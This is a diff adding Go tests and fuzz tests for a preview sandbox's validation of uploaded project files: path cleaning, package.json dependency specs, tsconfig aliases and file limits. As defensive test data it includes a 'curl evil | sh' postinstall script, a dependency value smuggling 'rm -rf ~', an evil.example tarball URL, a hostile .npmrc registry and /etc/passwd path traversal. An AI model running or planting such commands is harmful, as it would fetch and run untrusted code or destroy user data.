@@ -1,0 +1,266 @@
+package preview
+
+import (
+	"encoding/base64"
+	"encoding/json"
+	"errors"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestCleanPath(t *testing.T) {
+	ok := []string{
+		"src/App.tsx", "index.html", "public/logo.png", "src/components/ui/button.tsx",
+		".env", "src/.hidden", "a b/c d.ts", "src/ünïcode.ts", "tsconfig.json",
+	}
+	for _, p := range ok {
+		got, err := CleanPath(p, 512)
+		require.NoError(t, err, p)
+		assert.Equal(t, p, got)
+	}
+	bad := []struct{ in, why string }{
+		{"", "empty"},
+		{"../x", "leaves"},
+		{"a/../../x", "leaves"},
+		{"src/../../etc/passwd", "leaves"},
+		{"/etc/passwd", "absolute"},
+		{"C:\\Windows\\x", "contains"},
+		{"C:/x", "contains"},
+		{"src\\App.tsx", "contains"},
+		{"a\x00b", "contains"},
+		{"a\nb", "contains"},
+		{"src//App.tsx", "empty"},
+		{"./src/App.tsx", "empty"},
+		{"src/", "empty"},
+		{"node_modules/react/index.js", "managed"},
+		{"src/node_modules/x.js", "managed"},
+		{".vite-cache/deps/react.js", "managed"},
+		{".git/config", "managed"},
+		{".vitehost-tmp-abc", "reserved"},
+		{strings.Repeat("a", 513), "longer than"},
+		{strings.Repeat("a", 256) + "/x", "longer than 255"},
+		{"\xff\xfe", "UTF-8"},
+	}
+	for _, tt := range bad {
+		_, err := CleanPath(tt.in, 512)
+		require.Error(t, err, "%q", tt.in)
+		var re *RequestError
+		require.ErrorAs(t, err, &re)
+		assert.Equal(t, CodeBadPath, re.Code)
+		assert.Contains(t, err.Error(), tt.why, "%q", tt.in)
+	}
+}
+
+func FuzzCleanPath(f *testing.F) {
+	for _, s := range []string{"src/App.tsx", "../x", "a/./b", "/abs", "a\x00", "C:x", "node_modules/x", "a//b", "..", "."} {
+		f.Add(s)
+	}
+	root := "/srv/preview-x"
+	f.Fuzz(func(t *testing.T, name string) {
+		got, err := CleanPath(name, 512)
+		if err != nil {
+			if !errors.Is(err, ErrInvalid) {
+				t.Fatalf("error %v does not wrap ErrInvalid", err)
+			}
+			return
+		}
+		full := filepath.Join(root, got)
+		if !strings.HasPrefix(full, root+"/") {
+			t.Fatalf("%q escapes the root: %q", name, full)
+		}
+		for _, c := range strings.Split(got, "/") {
+			if c == ".." || c == "." || c == "" || reserved[c] {
+				t.Fatalf("%q accepted with component %q", name, c)
+			}
+		}
+		if strings.ContainsAny(got, "\x00\\:") {
+			t.Fatalf("%q accepted", name)
+		}
+	})
+}
+
+func TestParsePackageJSON(t *testing.T) {
+	deps, err := ParsePackageJSON([]byte(`{
+		"name": "x", "scripts": {"postinstall": "curl evil | sh"},
+		"dependencies": {"react": "^19.0.0", "@radix-ui/react-slot": "1.2.3", "lodash": "latest", "zod": "3.x || 4"},
+		"devDependencies": {"vite": ">=7 <9", "@vitejs/plugin-react": "*", "typescript": "~5.9.2-rc"}
+	}`))
+	require.NoError(t, err)
+	assert.Equal(t, Deps{
+		"react": "^19.0.0", "@radix-ui/react-slot": "1.2.3", "lodash": "latest", "zod": "3.x || 4",
+		"vite": ">=7 <9", "@vitejs/plugin-react": "*", "typescript": "~5.9.2-rc",
+	}, deps)
+
+	bad := []struct{ json, code, why string }{
+		{`{"dependencies": {"x": "git+https://github.com/a/b.git"}}`, CodeBadDependency, "refused"},
+		{`{"dependencies": {"x": "github:a/b"}}`, CodeBadDependency, "refused"},
+		{`{"dependencies": {"x": "a/b"}}`, CodeBadDependency, "refused"},
+		{`{"dependencies": {"x": "file:.."}}`, CodeBadDependency, "refused"},
+		{`{"dependencies": {"x": "link:../y"}}`, CodeBadDependency, "refused"},
+		{`{"dependencies": {"x": "https://evil.example/x.tgz"}}`, CodeBadDependency, "refused"},
+		{`{"dependencies": {"x": "workspace:*"}}`, CodeBadDependency, "refused"},
+		{`{"dependencies": {"x": "npm:y@1"}}`, CodeBadDependency, "refused"},
+		{`{"dependencies": {"x": "1.0.0; rm -rf ~"}}`, CodeBadDependency, "unexpected character"},
+		{`{"dependencies": {"x": 1}}`, CodeBadDependency, "must be a string"},
+		{`{"dependencies": {"../x": "1"}}`, CodeBadDependency, "dependency name"},
+		{`{"dependencies": {"React": "1"}}`, CodeBadDependency, "lowercase"},
+		{`{"dependencies": {"@scope": "1"}}`, CodeBadDependency, "@scope/name"},
+		{`{"dependencies": {".bin": "1"}}`, CodeBadDependency, "must not start"},
+		{`{"dependencies": [1]}`, CodeBadJSON, "packageJson"},
+		{`{"dependencies": `, CodeBadJSON, "packageJson"},
+	}
+	for _, tt := range bad {
+		_, err := ParsePackageJSON([]byte(tt.json))
+		var re *RequestError
+		require.ErrorAs(t, err, &re, tt.json)
+		assert.Equal(t, tt.code, re.Code, tt.json)
+		assert.Contains(t, err.Error(), tt.why, tt.json)
+	}
+}
+
+func FuzzParsePackageJSON(f *testing.F) {
+	f.Add([]byte(`{"dependencies":{"react":"^19"}}`))
+	f.Add([]byte(`{"devDependencies":{"@a/b":"git:x"}}`))
+	f.Add([]byte(`{"dependencies":{"a":"1 || >=2.0.0-rc <3"}}`))
+	f.Fuzz(func(t *testing.T, data []byte) {
+		deps, err := ParsePackageJSON(data)
+		if err != nil {
+			return
+		}
+		for name, spec := range deps {
+			if strings.ContainsAny(spec, ":/\\#@") || strings.Contains(name, "..") || strings.HasPrefix(name, ".") {
+				t.Fatalf("accepted %q: %q", name, spec)
+			}
+		}
+		// What is accepted makes a valid package.json.
+		var back map[string]any
+		if err := json.Unmarshal(deps.packageJSON(), &back); err != nil {
+			t.Fatal(err)
+		}
+	})
+}
+
+func TestDepsKey(t *testing.T) {
+	a := Deps{"react": "^19", "vite": "^8"}
+	b := Deps{"vite": "^8", "react": "^19"}
+	assert.Equal(t, a.Key(), b.Key(), "order does not matter")
+	assert.NotEqual(t, a.Key(), Deps{"react": "^18", "vite": "^8"}.Key())
+	assert.NotEqual(t, Deps{"ab": "c"}.Key(), Deps{"a": "bc"}.Key(), "names and specs are separated")
+	assert.Equal(t, DefaultVite, Deps{"react": "1"}.withDefaults()["vite"])
+	assert.Equal(t, "^7", Deps{"vite": "^7"}.withDefaults()["vite"])
+}
+
+func TestStripJSONC(t *testing.T) {
+	in := `{
+	  // a comment with "quotes"
+	  "compilerOptions": { /* block */
+	    "baseUrl": ".", "url": "http://x//y", "s": "a /* not */ b",
+	    "paths": { "@/*": ["./src/*",], },
+	  },
+	}`
+	var v map[string]any
+	require.NoError(t, json.Unmarshal(StripJSONC([]byte(in)), &v))
+	co := v["compilerOptions"].(map[string]any)
+	assert.Equal(t, "http://x//y", co["url"])
+	assert.Equal(t, "a /* not */ b", co["s"])
+}
+
+func FuzzStripJSONC(f *testing.F) {
+	f.Add([]byte(`{"a": [1, 2,], // x
+	}`))
+	f.Add([]byte(`"\"/*"`))
+	f.Add([]byte(`/* unterminated`))
+	f.Fuzz(func(t *testing.T, data []byte) {
+		out := StripJSONC(data)
+		// Plain JSON without commas before closers is unchanged in meaning.
+		var a, b any
+		if json.Unmarshal(data, &a) == nil {
+			if err := json.Unmarshal(out, &b); err != nil {
+				t.Fatalf("valid JSON %q became invalid %q: %v", data, out, err)
+			}
+		}
+	})
+}
+
+func TestTsconfigAliases(t *testing.T) {
+	root := "/srv/p"
+	got := tsconfigAliases([]byte(`{
+		// shadcn
+		"compilerOptions": {"baseUrl": ".", "paths": {
+			"@/*": ["./src/*"], "@components/*": ["src/components/*"], "~lib": ["./src/lib/index.ts"],
+			"evil/*": ["../../etc/*"], "abs/*": ["/etc/*"], "mid/*/x": ["src/*/x"]
+		}}
+	}`), root)
+	assert.Equal(t, []Alias{
+		{Find: "@components", Replacement: "/srv/p/src/components"},
+		{Find: "~lib", Replacement: "/srv/p/src/lib/index.ts"},
+		{Find: "@", Replacement: "/srv/p/src"},
+	}, got)
+	assert.Empty(t, tsconfigAliases([]byte(`not json`), root))
+}
+
+func TestIDs(t *testing.T) {
+	seen := map[string]bool{}
+	for range 1000 {
+		id := NewID()
+		require.True(t, ValidID(id), id)
+		require.Len(t, id, IDLength)
+		require.False(t, seen[id])
+		seen[id] = true
+	}
+	for _, bad := range []string{"", "abc", strings.Repeat("a", 25), strings.Repeat("a", 27), strings.Repeat("A", 26),
+		strings.Repeat("a", 25) + "1", strings.Repeat("a", 25) + "-", "../" + strings.Repeat("a", 23)} {
+		assert.False(t, ValidID(bad), bad)
+	}
+}
+
+func TestCheckFiles(t *testing.T) {
+	l := Limits{}.withDefaults()
+	png := []byte{0x89, 'P', 'N', 'G', 0, 1, 2, 0xff}
+	got, err := checkFiles([]File{
+		{Name: "src/App.tsx", Content: "export default 1"},
+		{Name: "public/logo.png", Content: base64.StdEncoding.EncodeToString(png), Encoding: "base64"},
+		{Name: "vite.config.ts", Content: "export default {}"},
+		{Name: "postcss.config.js", Content: "module.exports = {}"},
+		{Name: ".npmrc", Content: "registry=http://evil"},
+		{Name: "package.json", Content: `{"dependencies":{"react":"19"}}`},
+		{Name: "src/vite.config.ts", Content: "not at the root: plain source"},
+	}, nil, l, false)
+	require.NoError(t, err)
+	assert.Equal(t, []string{"vite.config.ts", "postcss.config.js", ".npmrc"}, got.ignored)
+	assert.JSONEq(t, `{"dependencies":{"react":"19"}}`, string(got.packageJSON))
+	require.Len(t, got.write, 3)
+	assert.Equal(t, png, got.write[1].data)
+
+	withConfig, err := checkFiles([]File{{Name: "vite.config.ts", Content: "x"}}, nil, l, true)
+	require.NoError(t, err)
+	assert.Empty(t, withConfig.ignored)
+
+	bad := []struct {
+		files   []File
+		deletes []string
+		code    string
+	}{
+		{[]File{{Name: "a", Content: "x"}, {Name: "a", Content: "y"}}, nil, CodeBadPath},
+		{[]File{{Name: "a", Content: "!!", Encoding: "base64"}}, nil, CodeBadEncoding},
+		{[]File{{Name: "a", Content: "x", Encoding: "rot13"}}, nil, CodeBadEncoding},
+		{[]File{{Name: "a", Content: strings.Repeat("x", int(l.MaxFileBytes)+1)}}, nil, CodeTooLarge},
+		{make([]File, l.MaxFiles+1), nil, CodeTooLarge},
+		{nil, []string{"../x"}, CodeBadPath},
+		{nil, []string{"package.json"}, CodeBadPath},
+	}
+	for i, tt := range bad {
+		_, err := checkFiles(tt.files, tt.deletes, l, false)
+		var re *RequestError
+		require.ErrorAs(t, err, &re, "case %d", i)
+		assert.Equal(t, tt.code, re.Code, "case %d: %v", i, err)
+	}
+
+	small := Limits{MaxRequestBytes: 10}.withDefaults()
+	_, err = checkFiles([]File{{Name: "a", Content: "123456"}, {Name: "b", Content: "123456"}}, nil, small, false)
+	assert.ErrorContains(t, err, "add up to more than 10 bytes")
+}
